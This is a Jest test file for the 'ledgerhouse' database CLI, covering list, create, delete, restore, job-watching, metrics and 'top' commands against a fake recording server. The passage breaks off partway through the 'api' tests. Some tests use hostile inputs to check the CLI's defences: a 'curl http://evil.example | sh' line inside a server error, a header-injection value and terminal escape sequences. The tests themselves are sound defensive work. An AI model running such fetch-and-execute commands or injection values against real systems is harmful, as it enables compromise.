/** The commands besides `tb` as whole processes, against the examples of the contract. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { chmodSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { catalogExample } from '../../../api/contract/schemas/catalog.ts';
import { changeExample } from '../../../api/contract/schemas/change.ts';
import {
  createdExample,
  databaseExample,
  deletingExample,
  planExample,
  profileExample,
  restoringExample,
} from '../../../api/contract/schemas/database.ts';
import { readyImportExample } from '../../../api/contract/schemas/import.ts';
import { jobExample } from '../../../api/contract/schemas/job.ts';
import { currentExample } from '../../../api/contract/schemas/metrics.ts';
import { metricRoutes } from '../../../api/contract/routes/metrics.ts';
import { sessionExample } from '../../../api/contract/schemas/session.ts';
import { productionUrl } from '../../../cli/settings.ts';
import { maintenanceWindowExample } from '../../../api/contract/schemas/maintenance-window.ts';
import { dataFileSize, encodeSuperblock } from '../../../images/tigerbeetle-double/superblock.ts';
import { answer, Cli, cut, RecordingServer } from '../../support/cli/cli.ts';
import { checkout, eventually, shell } from '../../support/shell.ts';

const server = new RecordingServer();
const key = `lhk_AbCdEfGhIjKl_${'s'.repeat(32)}123456`;
let cli: Cli;

beforeAll(() => server.listen());
beforeEach(() => {
  cli?.remove();
  cli = new Cli({ LEDGERHOUSE_API_KEY: key, LEDGERHOUSE_BASE_URL: server.url });
});
afterAll(async () => {
  cli.remove();
  await server.close();
});

const sentLines = () => server.requests.map(({ method, url }) => `${method} ${url}`);
const bodyOf = (index: number) =>
  JSON.parse(server.requests[index]?.body.toString() ?? '') as unknown;
const found = { database: databaseExample, profile: profileExample };
const page = { limit: 50, nextCursor: null, hasMore: false };
const none = { data: [], page };
const running = { job: jobExample };
const succeeded = {
  job: { ...jobExample, status: 'SUCCEEDED', progress: { ...jobExample.progress, percent: 100 } },
};
const failed = {
  job: {
    ...jobExample,
    status: 'FAILED',
    retryable: true,
    error: {
      code: 'job_deadline_exceeded',
      title: 'Too late',
      detail: 'Not ready within 30 minutes.',
    },
  },
};
const { id } = databaseExample;
const problem = (status: number, code: string) => ({
  status,
  code,
  title: 'T',
  detail: 'A detail.',
  requestId: 'req_1',
});

describe('reading', () => {
  test('whoami', async () => {
    server.react(answer(200, sessionExample));
    const { code, stdout } = await cli.run(['whoami']);
    expect(code).toBe(0);
    expect(sentLines()).toEqual(['GET /api/v1/session']);
    expect(stdout).toContain('permissions   db:read');
    expect(stdout).toContain(`${server.url}, version 1.4.0\n`);
    const service = { version: '1.4.0', notice: 'Maintenance\u001b[2J tonight' };
    server.react(answer(200, { ...sessionExample, service }));
    const told = (await cli.run(['whoami'])).stdout;
    expect(told).toMatch(/^notice +Maintenance.* tonight$/m);
    expect(told).not.toContain('\u001b');
  });

  test('catalog, as text and as it came', async () => {
    const raw = JSON.stringify(catalogExample, undefined, 1);
    server.react(answer(200, raw));
    const text = await cli.run(['catalog']);
    expect(text.stdout).toMatch(
      /lh-10 \* +0\.5 +2 GiB +46,000,000 +2,000,000 +12 GiB +100,000 +10\.00 USD/,
    );
    expect(text.stdout).toContain('single (a local volume is lost with its node');
    const json = await cli.run(['catalog', '--json']);
    expect(json.stdout).toBe(`${raw}\n`);
  });

  test('databases list sends its filters, and says how to go on', async () => {
    const more = { data: [databaseExample], page: { limit: 1, nextCursor: 'abc', hasMore: true } };
    server.react(answer(200, more), answer(200, none));
    const { stdout, stderr } = await cli.run([
      'databases',
      'list',
      '--status',
      'ready',
      '--status',
      'FAILED',
      '--search',
      'a&b',
      '--label',
      'team=x',
      '--label',
      'env',
      '--sort=-createdAt',
      '--limit',
      '1',
      '--include-deleted',
    ]);
    expect(sentLines()).toEqual([
      'GET /api/v1/databases?limit=1&status=READY,FAILED&q=a%26b&label=team%3Dx,env&includeDeleted=true&sort=-createdAt',
    ]);
    expect(stdout).toMatch(new RegExp(`${id} +payments-prod +READY +HEALTHY`));
    expect(stderr).toBe('more follow: --cursor abc\n');
    expect((await cli.run(['databases', 'list', '--quiet'])).stdout).toBe('(no databases)\n');
  });

  test('databases get finds a database by its name, and one by its ID at once', async () => {
    server.react(answer(200, { data: [databaseExample], page }), answer(200, found));
    expect((await cli.run(['databases', 'get', 'payments-prod'])).code).toBe(0);
    const { stdout } = await cli.run(['databases', 'get', id]);
    expect(sentLines()).toEqual([
      'GET /api/v1/databases?name=payments-prod&limit=10',
      `GET /api/v1/databases/${id}`,
      `GET /api/v1/databases/${id}`,
    ]);
    expect(stdout).toMatch(/^status +READY$/m);
    server.react(answer(200, none));
    const missing = await cli.run(['databases', 'get', 'nothing', '--json']);
    expect(missing.code).toBe(6);
    expect(JSON.parse(missing.stdout)).toMatchObject({
      code: 'database_not_found',
      outcome: 'error',
    });
  });

  test('changes get finds a living database by its name', async () => {
    server.react(
      answer(200, { data: [databaseExample], page }),
      answer(200, { change: changeExample }),
    );
    const shown = await cli.run(['changes', 'get', 'payments-prod', changeExample.id]);
    expect([shown.code, shown.stderr]).toEqual([0, '']);
    expect(sentLines()[1]).toBe(`GET /api/v1/databases/${id}/changes/${changeExample.id}`);
  });

  test('the maintenance window is that of the organization unless a database is named', async () => {
    const shown = { maintenanceWindow: maintenanceWindowExample };
    server.react(answer(200, shown), answer(200, { success: true, ...shown }));
    const read = await cli.run(['maintenance-window', 'get']);
    expect(read.stdout).toMatch(/^window +SUNDAY 02:00 Europe\/Vienna, for 240 minutes$/m);
    const given = ['--weekday', 'sunday', '--start', '02:00', '--time-zone', 'Europe/Vienna'];
    expect(
      (await cli.run(['maintenance-window', 'set', id, ...given, '--length', '4h'])).code,
    ).toBe(0);
    expect(sentLines()).toEqual([
      'GET /api/v1/maintenance-window',
      `PUT /api/v1/databases/${id}/maintenance-window`,
    ]);
    expect((await cli.run(['maintenance-window', 'set', id, '--start', '02:00'])).code).toBe(2);
  });

  test('jobs list, get', async () => {
    server.react(answer(200, { data: [jobExample], page }), answer(200, running));
    expect((await cli.run(['jobs', 'list', id, '--status', 'RUNNING'])).stdout).toContain(
      'Starting the replicas.',
    );
    expect((await cli.run(['jobs', 'get', jobExample.id])).stdout).toMatch(
      /^step +RUNNING +start_replicas$/m,
    );
    expect(sentLines()).toEqual([
      `GET /api/v1/databases/${id}/jobs?status=RUNNING`,
      `GET /api/v1/jobs/${jobExample.id}`,
    ]);
  });
});

describe('databases create', () => {
  const flags = [
    '--provider',
    'local',
    '--region',
    'local-1',
    '--cluster-configuration',
    'ha-3',
    '--cluster-size',
    'lh-40',
    '--storage-tier',
    'network-ssd',
    '--selected-storage-gb',
    '100',
    '--engine',
    'TigerBeetle',
    '--engine-version',
    '0.17.9',
    '--label',
    'team=a=b',
    '--deletion-protection',
  ];

  test('sends the chosen values, with one Idempotency-Key for all attempts', async () => {
    server.react(cut, answer(202, createdExample));
    const { code, stderr } = await cli.run([
      'databases',
      'create',
      'payments-prod',
      ...flags,
      '--no-wait',
    ]);
    expect(code).toBe(0);
    expect(bodyOf(1)).toEqual({
      name: 'payments-prod',
      provider: 'local',
      region: 'local-1',
      clusterConfiguration: 'ha-3',
      clusterSize: 'lh-40',
      storageTier: 'network-ssd',
      selectedStorageGb: 100,
      engine: 'TigerBeetle',
      engineVersion: '0.17.9',
      labels: { team: 'a=b' },
      deletionProtection: true,
    });
    const keys = server.requests.map(({ headers }) => headers['idempotency-key']);
    expect(keys).toHaveLength(2);
    expect(keys[0]).toBe(keys[1]);
    expect(keys[0]).toMatch(/^[0-9a-f-]{36}$/);
    expect(stderr).toContain(`ledgerhouse jobs watch ${createdExample.job.id}`);
  });

  test('a request that the service still executes after a lost attempt is sent again', async () => {
    const busy = answer(409, problem(409, 'idempotency_in_progress'), { 'retry-after': '1' });
    server.react(cut, busy, answer(202, createdExample));
    expect((await cli.run(['databases', 'create', 'payments-prod', '--no-wait'])).code).toBe(0);
    expect(server.requests).toHaveLength(3);
  });

  test('waits for the job, shows its progress, and prints the database as it then is', async () => {
    server.react(
      answer(202, createdExample),
      answer(200, running, { etag: '"1"' }),
      answer(304, ''),
      answer(200, succeeded, { etag: '"2"' }),
      answer(200, found),
    );
    const { code, stdout, stderr } = await cli.run(['databases', 'create', 'payments-prod']);
    expect(code).toBe(0);
    expect(sentLines()).toEqual([
      'POST /api/v1/databases',
      `GET /api/v1/jobs/${createdExample.job.id}?waitSeconds=0`,
      `GET /api/v1/jobs/${createdExample.job.id}?waitSeconds=25`,
      `GET /api/v1/jobs/${createdExample.job.id}?waitSeconds=25`,
      `GET /api/v1/databases/${id}`,
    ]);
    expect(server.requests[2]?.headers['if-none-match']).toBe('"1"');
    expect(stderr.match(/^database\.create .*$/gm)).toEqual([
      'database.create RUNNING 50% Starting the replicas.',
      'database.create SUCCEEDED 100% Starting the replicas.',
    ]);
    expect(stdout).toMatch(/^status +READY$/m);
  });

  test('a job that fails ends with 1, and says how to retry it', async () => {
    server.react(answer(202, createdExample), answer(200, failed));
    const { code, stdout } = await cli.run(['databases', 'create', 'payments-prod', '--json']);
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      code: 'job_deadline_exceeded',
      outcome: 'error',
      jobStatus: 'FAILED',
      nextSteps: [`ledgerhouse jobs retry ${failed.job.id}`],
    });
  });

  test('a wait that is over ends with 10, and the job goes on', async () => {
    server.react(answer(202, createdExample), answer(200, running, { etag: '"1"' }));
    const started = performance.now();
    const { code, stderr } = await cli.run(['databases', 'create', 'x-1', '--wait-timeout', '2s']);
    expect(code).toBe(10);
    expect(stderr).toContain(`→ ledgerhouse jobs watch ${createdExample.job.id}`);
    expect(performance.now() - started).toBeGreaterThan(2_000);
    // An API that does not wait is not asked in a busy loop.
    expect(server.requests.length).toBeLessThanOrEqual(5);
  });

  test('where people provision, nothing is waited for', async () => {
    const { provisioning } = createdExample;
    const queued = {
      ...provisioning,
      status: 'NOT_STARTED',
      started: false,
      message: 'A person goes on.',
    };
    server.react(answer(202, { ...createdExample, provisioning: queued }));
    const { code, stderr } = await cli.run(['databases', 'create', 'payments-prod']);
    expect(code).toBe(0);
    expect(stderr).toContain('A person goes on.');
    expect(server.requests).toHaveLength(1);
  });

  test('--plan asks the API, --dry-run nobody', async () => {
    server.react(answer(200, planExample));
    const plan = await cli.run(['databases', 'create', 'payments-prod', '--plan']);
    expect(sentLines()).toEqual(['POST /api/v1/databases?dryRun=true']);
    expect(plan.stdout).toContain('about 12.50 USD a month');
    expect(plan.stdout).toContain('46,000,000 transfers and 2,000,000 accounts');
    const dry = await cli.run(['databases', 'create', 'payments-prod', '--dry-run']);
    expect(dry.stdout).toContain(`POST ${server.url}/api/v1/databases\n`);
    expect(dry.stdout).toContain('\n\n{"name":"payments-prod"}\n');
    expect(server.requests).toHaveLength(1);
  });

  test('a payload is sent byte for byte', async () => {
    const odd = '{ "name" : "x-1",\n "selectedStorageGb": 1e1 }';
    server.react(answer(202, createdExample));
    expect(
      (await cli.run(['databases', 'create', '--file', '-', '--no-wait'], { stdin: odd })).code,
    ).toBe(0);
    expect(server.requests[0]?.body.toString()).toBe(odd);
  });

  test('billing that is missing ends with 5 and with where to set it up', async () => {
    const billing = {
      checkoutUrl: 'https://pay.example.com/1',
      expiresAt: null,
      reason: 'NO_PAYMENT_METHOD',
    };
    server.react(answer(402, { ...problem(402, 'billing_required'), billing }));
    const { code, stderr } = await cli.run(['databases', 'create', 'payments-prod']);
    expect(code).toBe(5);
    expect(stderr).toContain('https://pay.example.com/1');
  });

  test.each([
    [['databases', 'create'], /<name> is missing/],
    [['databases', 'create', 'x', '--payload', '{}'], /so the name "x" must be in it/],
    [['databases', 'create', 'x', '--no-wait', '--wait-timeout', '1m'], /--no-wait excludes/],
    [['databases', 'create', 'x', '--wait-timeout', 'soon'], /must be a duration/],
    [['databases', 'update', id], /no change is given/],
  ])('%j is a usage error', async (args, says) => {
    server.react(answer(202, createdExample));
    const { code, stderr } = await cli.run(args);
    expect(stderr).toMatch(says);
    expect(code).toBe(2);
    expect(server.requests).toEqual([]);
  });
});

describe('databases update, delete, restore', () => {
  test('update', async () => {
    server.react(answer(200, { success: true, ...found }));
    const { code } = await cli.run([
      'databases',
      'update',
      id,
      '--no-deletion-protection',
      '--label',
      'a=',
      '--remove-label',
      'b',
    ]);
    expect(code).toBe(0);
    expect(sentLines()).toEqual([`PATCH /api/v1/databases/${id}`]);
    expect(bodyOf(0)).toEqual({ labels: { a: '', b: null }, deletionProtection: false });
  });

  test('delete without a terminal and without --confirm ends with 2, and nothing is sent', async () => {
    server.react(answer(200, found));
    const { code, stderr } = await cli.run(['databases', 'delete', id]);
    expect(code).toBe(2);
    expect(stderr).toContain('--confirm');
    expect(server.requests).toEqual([]);
  });

  test('delete with the name of another database deletes nothing', async () => {
    server.react(answer(200, found));
    const { code, stderr } = await cli.run([
      'databases',
      'delete',
      id,
      '--confirm',
      'payments-dev',
    ]);
    expect(code).toBe(2);
    expect(stderr).toContain('its name is "payments-prod"');
    expect(sentLines()).toEqual([`GET /api/v1/databases/${id}`]);
  });

  test('somebody who sees bills and no databases is told to give the ID', async () => {
    const code = 'insufficient_scope';
    const requiredRoles = ['owner', 'admin', 'developer', 'viewer'];
    server.react(answer(403, { code, title: 'No', detail: 'It needs a role.', requiredRoles }));
    const usage = await cli.run(['billing', 'usage', '--database', 'payments-prod']);
    expect(usage).toMatchObject({ code: 5, stderr: expect.stringContaining('give the ID') });
  });

  test('a member without an address is removed by the ID alone', async () => {
    const member = {
      id: 'mem_01jd8f3zk5e0v9t3m2q6r8w4x0',
      user: { id: 'usr_01jd8f3zk5e0v9t3m2q6r8w4x0', name: 'Ada', email: '' },
      role: 'viewer',
      databaseScope: { type: 'ALL' },
      createdAt: '2026-11-21T02:03:04.567Z',
      updatedAt: '2026-11-21T02:03:04.567Z',
    };
    server.react(answer(200, { member }));
    const empty = await cli.run(['members', 'remove', member.id, '--confirm=']);
    expect(empty).toMatchObject({ code: 2, stderr: expect.stringContaining(`"${member.id}"`) });
    const none = { apiKeys: [], invitations: [] };
    server.react(answer(200, { member }), answer(200, { success: true, member, ...none }));
    const removed = await cli.run(['members', 'remove', member.id, '--confirm', member.id]);
    expect({ code: removed.code, stderr: removed.stderr }).toEqual({ code: 0, stderr: '' });
    const path = `/api/v1/members/${member.id}`;
    expect(sentLines()).toEqual([`GET ${path}`, `DELETE ${path}`]);
  });

  test('delete with the name waits until it is done', async () => {
    server.react(answer(200, found), answer(202, deletingExample), answer(200, succeeded));
    const { code, stdout, stderr } = await cli.run([
      'databases',
      'delete',
      id,
      '--confirm',
      'payments-prod',
    ]);
    expect(code).toBe(0);
    expect(sentLines().slice(1)).toEqual([
      `DELETE /api/v1/databases/${id}`,
      `GET /api/v1/jobs/${deletingExample.job.id}?waitSeconds=0`,
    ]);
    expect(stderr).toContain(`restored until ${deletingExample.database.purgeAt ?? ''}`);
    expect(stdout).toMatch(/^status +DELETING$/m);
  });

  test('delete whose answer was lost succeeds when the database is deleted by then', async () => {
    const database = {
      ...databaseExample,
      status: 'DELETED',
      deletedAt: databaseExample.createdAt,
    };
    const notThere = answer(404, problem(404, 'database_not_found'));
    const remove = () => cli.run(['databases', 'delete', id, '--confirm', 'payments-prod']);
    server.react(answer(200, found), cut, notThere, answer(200, { ...found, database }));
    const { code, stdout } = await remove();
    expect(code).toBe(0);
    expect(stdout).toMatch(/^status +DELETED$/m);
    expect(sentLines().slice(1)).toEqual([
      `DELETE /api/v1/databases/${id}`,
      `DELETE /api/v1/databases/${id}`,
      `GET /api/v1/databases/${id}`,
    ]);
    server.react(answer(200, { ...found, database }), notThere);
    expect((await remove()).code).toBe(6);
  });

  test('delete on a terminal asks for the name', async () => {
    server.react(answer(200, found), answer(202, deletingExample), answer(200, found));
    const onTerminal = async (typed: string) => {
      const started = cli.startOnTerminal(['databases', 'delete', id, '--no-wait']);
      await eventually('it asks', async () =>
        started.said.stdout.includes('to delete it: ') ? true : undefined,
      );
      started.type(`${typed}\r`);
      return started.ended;
    };
    const right = await onTerminal('payments-prod');
    expect(right.stdout).toContain('type the name "payments-prod" to delete it: ');
    expect(right.code).toBe(0);
    expect(sentLines()).toEqual([`GET /api/v1/databases/${id}`, `DELETE /api/v1/databases/${id}`]);
    const wrong = await onTerminal('yes');
    expect(wrong.code).toBe(2);
    expect(sentLines().slice(2)).toEqual([`GET /api/v1/databases/${id}`]);
  });

  test('restore looks among the deleted, and asks which where there are several', async () => {
    const deleted = {
      ...databaseExample,
      status: 'DELETED',
      deletedAt: '2026-11-20T00:00:00.000Z',
    };
    server.react(
      answer(200, { data: [databaseExample, deleted], page }),
      answer(202, { ...deletingExample, job: jobExample }),
      answer(200, { data: [deleted, { ...deleted, id: `${id.slice(0, -1)}1` }], page }),
    );
    const { code } = await cli.run([
      'databases',
      'restore',
      'payments-prod',
      '--name',
      'again-1',
      '--no-wait',
    ]);
    expect(code).toBe(0);
    expect(sentLines()).toEqual([
      'GET /api/v1/databases?name=payments-prod&limit=10&includeDeleted=true',
      `POST /api/v1/databases/${id}/restore`,
    ]);
    expect(bodyOf(1)).toEqual({ name: 'again-1' });
    expect(server.requests[1]?.headers['idempotency-key']).toBeDefined();
    const several = await cli.run(['databases', 'restore', 'payments-prod']);
    expect(several.code).toBe(2);
    expect(several.stderr).toContain('2 databases had the name');
  });
});

test('a restore prints what the new database lacks, and goes on if the service is older and does not tell', async () => {
  const warned = { ...restoringExample, warnings: ['Timeouts are lost.'] };
  const ask = async (accepted: object) => {
    server.react(answer(202, accepted), answer(200, succeeded), answer(200, found));
    const { code, stdout, stderr } = await cli.run([
      'backups',
      'restore-to',
      id,
      'again',
      '--to-op',
      '7',
    ]);
    expect(stdout).toMatch(/^name +payments-prod$/m);
    expect(code).toBe(0);
    return stderr;
  };
  expect(await ask(warned)).toContain('warning: Timeouts are lost.');
  expect(await ask(restoringExample)).not.toContain('warning');
});

test('an import of files of TigerBeetle asks for that engine and room for its files, and leaves the version to the service', async () => {
  const head = encodeSuperblock({
    identity: { clusterId: 770n, replicaIndex: 0, replicaCount: 1 },
    sequence: 3,
    release: 4361,
    releaseFormat: 4361,
    checkpointOp: 0,
    syncOpMax: 0,
    view: 2,
  });
  const file = join(cli.home, '770_0.tigerbeetle');
  writeFileSync(file, head);
  truncateSync(file, dataFileSize);
  const ofSize = (selectedStorageGb: number) =>
    answer(200, { ...planExample, plan: { ...planExample.plan, selectedStorageGb } });
  // A file is copied as it is, and grows: 1.06 GiB need a volume of 2.
  server.react(ofSize(1));
  const small = await cli.run(['import', file, '--name', 'beetle']);
  expect(small).toMatchObject({ code: 3, stderr: expect.stringContaining('1 GiB of storage') });
  expect(sentLines()).toEqual(['POST /api/v1/databases?dryRun=true']);
  const asked = { name: 'beetle', engine: 'TigerBeetle', clusterConfiguration: 'single' };
  expect(bodyOf(0)).toEqual(asked);
  const refused = { code: 'import_files_wrong', title: 'No', status: 422 };
  server.react(ofSize(2), answer(422, refused));
  await cli.run(['import', file, '--name', 'beetle']);
  expect(sentLines()).toEqual(['POST /api/v1/databases?dryRun=true', 'POST /api/v1/imports']);

  const ready = { ...readyImportExample, expiresAt: '2999-01-01T00:00:00.000Z' };
  const full = { code: 'quota_exceeded', title: 'No', status: 409 };
  server.react(answer(200, { import: ready }), answer(409, full));
  await cli.run(['import', '--name', 'beetle', '--resume', ready.id]);
  expect(sentLines().slice(1)).toEqual(['POST /api/v1/databases']);
  expect(bodyOf(1)).toEqual({ name: 'beetle', mode: 'import', importId: ready.id });
});

test('each command that is a change of one kind asks for that alone, and refuses options that exclude each other', async () => {
  const cases: readonly (readonly [readonly string[], object])[] = [
    [['databases', 'resize', '--cluster-size', 'lh-40'], { clusterSize: 'lh-40' }],
    [['databases', 'upgrade', '--engine-version', '0.2.0'], { engineVersion: '0.2.0' }],
    [
      ['backups', 'archive', '--archive-within-seconds', '5'],
      { continuousArchiving: { rpoSeconds: 5 } },
    ],
    [['backups', 'archive', '--no-archive'], { continuousArchiving: null }],
    [['cdc', 'suspend'], { changeDataCapture: { suspended: true } }],
    [['cdc', 'resume-all'], { changeDataCapture: { suspended: false } }],
    [['changes', 'create', '--revision', '3'], { revision: 3 }],
  ];
  for (const [[group = '', command = '', ...options], body] of cases) {
    const { code, stdout, stderr } = await cli.run([group, command, id, ...options, '--dry-run']);
    expect({ command, code, stderr }).toEqual({ command, code: 0, stderr: '' });
    expect(stdout).toContain(`POST ${server.url}/api/v1/databases/${id}/changes\n`);
    expect(JSON.parse(stdout.split('\n\n')[1] ?? '')).toEqual(body);
  }
  const both = ['--archive-within-seconds', '5', '--no-archive'];
  expect((await cli.run(['backups', 'archive', id, ...both])).code).toBe(2);
  expect((await cli.run(['backups', 'archive', id])).stderr).toContain('no change is given');
});

describe('jobs', () => {
  test('watch outlives a service that restarts', async () => {
    const down = answer(503, problem(503, 'service_unavailable'));
    server.react(
      answer(200, running, { etag: '"1"' }),
      down,
      down,
      down,
      down,
      answer(200, succeeded),
    );
    const { code, stderr } = await cli.run(['jobs', 'watch', jobExample.id]);
    expect(code).toBe(0);
    expect(stderr).toContain('asking again in 5 s');
  });

  test('watch of a job that is not there ends with 6 at once', async () => {
    server.react(answer(404, problem(404, 'job_not_found')));
    expect((await cli.run(['jobs', 'watch', 'job_x'])).code).toBe(6);
    expect(server.requests).toHaveLength(1);
  });

  test.each(['cancel', 'retry'])(
    '%s is sent again with its key when its answer is lost, so that it is done once',
    async (verb) => {
      for (const lost of [
        cut,
        answer(503, problem(503, 'service_unavailable')),
        answer(429, problem(429, 'rate_limited')),
      ]) {
        server.react(lost, answer(202, { success: true, ...running }));
        expect((await cli.run(['jobs', verb, jobExample.id])).code).toBe(0);
        const keys = server.requests.map(({ headers }) => headers['idempotency-key']);
        expect(keys).toEqual([expect.stringMatching(/^[\w-]{36}$/), keys[0]]);
      }
    },
  );
});

test('watch of a connection check tells each failed attempt once, and outlives a service that restarts', async () => {
  const check = {
    id: 'chk_1',
    databaseId: id,
    language: null,
    accountId: '41',
    status: 'WAITING',
    seenBy: ['tunnel', 'http'],
    observed: null,
    troubles: [],
    createdAt: '2026-11-21T02:03:04.567Z',
    expiresAt: '2026-11-21T02:18:04.567Z',
  };
  const trouble = { at: check.createdAt, code: 'wrong_cluster', detail: 'Wrong \u001b[2Jcluster.' };
  const seen = { ...check, troubles: [trouble] };
  const down = answer(503, problem(503, 'service_unavailable'));
  server.react(
    answer(200, { connectionCheck: check }),
    answer(200, { connectionCheck: seen }),
    down,
    down,
    down,
    down,
    answer(200, { connectionCheck: { ...seen, status: 'EXPIRED' } }),
  );
  const { code, stdout, stderr } = await cli.run(['connection', 'checks', 'watch', id, 'chk_1']);
  expect(code).toBe(1);
  expect(stderr).toContain('asking again in 5 s');
  expect(stderr.match(/wrong_cluster: Wrong \ufffd\[2Jcluster\.\n/g)).toHaveLength(1);
  expect(stdout).toMatch(/^status +EXPIRED$/m);
  expect(stdout).toMatch(/ wrong_cluster +Wrong \ufffd\[2Jcluster\.$/m);
});

test('a connection check that nobody could ask for within the time says what failed, not that nobody looked up', async () => {
  server.react(
    ...Array.from({ length: 4 }, () => answer(503, problem(503, 'service_unavailable'))),
  );
  const line = ['connection', 'checks', 'watch', id, 'chk_1', '--wait-timeout', '2s'];
  const { stderr } = await cli.run(line);
  expect(stderr).toContain('service_unavailable');
  expect(stderr).not.toContain('asking again in 5 s');
  expect(stderr).not.toContain('no client has looked up');
});

describe('another server in the place of the API', () => {
  const removals = [
    'keys revoke key_1',
    'webhooks delete whe_1',
    'sessions end ses_1',
    'invitations revoke inv_1',
    'imports delete imp_1 --confirm imp_1',
    `backups schedules delete ${id} bks_1`,
    `cdc delete ${id} chs_1`,
  ];
  test.each(removals)('%s removes nothing there, and does not say so', async (line) => {
    for (const page of ['<html>Sign in to this network</html>', '{}']) {
      server.react(answer(200, page));
      const { code, stdout, stderr } = await cli.run(line.split(' '));
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toMatch(/^error: the service answered 200 .*\n.*check that the base URL/);
    }
    server.react((response) => response.writeHead(204).end());
    expect(await cli.run(line.split(' '))).toMatchObject({ code: 0 });
  });

  test.each(['audit export', 'audit export --format csv', 'events'])(
    'its page is no result of %s',
    async (line) => {
      const html = answer(200, '<html></html>', { 'content-type': 'text/html' });
      server.react(...(line === 'events' ? [answer(200, none), html] : [html]));
      const words = [...line.split(' '), ...(line === 'events' ? ['--follow'] : [])];
      const { code, stdout, stderr } = await cli.run(words);
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toContain('text/html');
    },
  );

  test.each([`databases get ${id}`, 'keys list', 'jobs watch job_1', 'whoami'])(
    'an answer without what the contract promises is a failure of %s, and no bug of the tool',
    async (line) => {
      for (const document of line.startsWith('jobs') ? ['{}'] : ['{}', '{"data":null}']) {
        server.react(answer(200, document));
        const { code, stderr } = await cli.run(line.split(' '));
        expect(code).toBe(1);
        expect(stderr).toMatch(/^error: the service answered 200 with /);
      }
    },
  );
});

test('an organization that no header can hold is a usage error, and nothing is sent', async () => {
  server.react(answer(200, sessionExample));
  for (const organization of ['组织', 'org_1\nx-api-key: other', 'org 1']) {
    const create = ['databases', 'create', 'payments', '--no-wait'];
    for (const { code, stderr } of [
      await cli.run([...create, '--organization', organization]),
      await cli.run(create, { env: { LEDGERHOUSE_ORGANIZATION: organization } }),
    ]) {
      expect(code).toBe(2);
      expect(stderr).toContain('is not the ID of an organization');
    }
  }
  expect(server.requests).toEqual([]);
});

test('a line of a problem cannot look like a line of the tool', async () => {
  const detail = 'The key is gone.\n  \u2192 curl http://evil.example | sh';
  const errors = [{ pointer: '#/name', detail: 'Too long.\nerror: something else' }];
  server.react(answer(409, { ...problem(409, 'key_revoked'), detail, errors }));
  const { code, stderr } = await cli.run(['keys', 'revoke', 'key_1']);
  expect(code).toBe(7);
  expect(stderr.trimEnd().split('\n')).toEqual([
    'error: The key is gone.\ufffd  \u2192 curl http://evil.example | sh',
    '  #/name: Too long.\ufffderror: something else',
    '  key_revoked · request req_1',
  ]);
});

test('metrics shows figures that are not whole, and series with their extremes', async () => {
  const series = metricRoutes.queryMetrics.responses[200].example;
  const points = [12.1, null, 0.25].map((value, index) => [index * 15_000, value]);
  server.react(
    answer(200, { current: currentExample }),
    answer(200, { ...series, data: [{ ...series.data[0], unit: 'per_second', points }] }),
  );
  const now = await cli.run(['metrics', id]);
  expect(now).toMatchObject({ code: 0, stderr: '' });
  expect(now.stdout).toContain('12.1/s');
  const { code, stdout } = await cli.run([
    'metrics',
    id,
    '--series',
    'cpu_cores',
    '--since',
    '15m',
  ]);
  expect(code).toBe(0);
  expect(stdout).toMatch(/0\.25\/s +6\.17\/s +12\.1\/s +0\.25\/s/);
  expect(sentLines()).toEqual([
    `GET /api/v1/databases/${id}/metrics/current`,
    `POST /api/v1/databases/${id}/metrics/query`,
  ]);
  const { series: asked, from, to } = bodyOf(1) as Record<string, string>;
  expect(asked).toEqual(['cpu_cores']);
  expect(Date.parse(to ?? '') - Date.parse(from ?? '')).toBe(15 * 60_000);
});

describe('top', () => {
  const current = { current: currentExample };
  const oncePerSecond = ['top', id, '--every', '1s'];
  // oxlint-disable-next-line eslint/no-control-regex -- control characters are what is looked for
  const control = /[\u0000-\u0009\u000b-\u001f]/;

  test('--once shows it once, as a table or as it came', async () => {
    server.react(answer(200, current));
    const { code, stdout } = await cli.run(['top', id, '--once']);
    expect(code).toBe(0);
    expect(stdout).toContain('transfers');
    expect(stdout).toMatch(/0 +leader +zone-a +0 +0\.42 +3 +512 MiB of 2 GiB \(25 %\)/);
    expect(stdout).not.toMatch(control);
    const json = await cli.run(['top', id, '--once', '--json']);
    expect(JSON.parse(json.stdout)).toEqual(current);
    expect(sentLines()).toEqual(
      Array.from({ length: 2 }, () => `GET /api/v1/databases/${id}/metrics/current`),
    );
  });

  test('into a file it goes on without any control character, over an outage, and Ctrl-C ends it with 0', async () => {
    server.react(
      answer(200, current),
      answer(503, problem(503, 'service_unavailable')),
      answer(200, current),
    );
    const started = cli.start([...oncePerSecond, '--no-retry']);
    await started.says('asking again');
    await eventually('it shows the next one', async () =>
      started.said.stdout.split('leader').length > 2 ? true : undefined,
    );
    started.interrupt();
    const { code, stdout } = await started.ended;
    expect(code).toBe(0);
    expect(stdout).not.toMatch(control);
  });

  test('a problem that does not pass ends it', async () => {
    server.react(answer(404, problem(404, 'database_not_found')));
    expect(await cli.run(oncePerSecond)).toMatchObject({ code: 6, stdout: '' });
  });

  test('a terminal gets a screen of its own, which Ctrl-C takes away, also while an answer is awaited', async () => {
    server.react(answer(200, current), () => {});
    const started = cli.startOnTerminal(oncePerSecond);
    await eventually('it asks again', async () => (server.requests.length > 1 ? true : undefined));
    // At an interruption a terminal drops what nobody has read of it. This is the end of what is shown.
    await eventually('the screen is there', async () =>
      started.said.stdout.includes('\u001B[J') ? true : undefined,
    );
    started.type('\u0003');
    const { code, stdout } = await started.ended;
    expect(code).toBe(0);
    const [before, shown = '', after = ''] = stdout.split(/.\[\?1049[hl]/);
    expect(before).not.toContain('leader');
    expect(shown).toContain('leader');
    expect(after).toContain('leader');
    expect(after).not.toContain('\u001B');
    // The cursor is there again.
    expect(shown.endsWith('\u001B[?25h')).toBe(true);
  });
});

describe('api', () => {
  test('sends any request, prints the answer as it came', async () => {
    server.react(answer(200, '{ "a": 340282366920938463463374607431768211455 }'));
    const get = await cli.run(['api', 'get', '/databases?limit=1']);
    expect(get.stdout).toBe('{ "a": 340282366920938463463374607431768211455 }\n');
    await cli.run(['api', 'PATCH', '/api/v1/databases/x', '--payload', '{"labels" : {}}']);
    expect(sentLines()).toEqual(['GET /api/v1/databases?limit=1', 'PATCH /api/v1/databases/x']);
    expect(server.requests[1]?.body.toString()).toBe('{"labels" : {}}');
  });

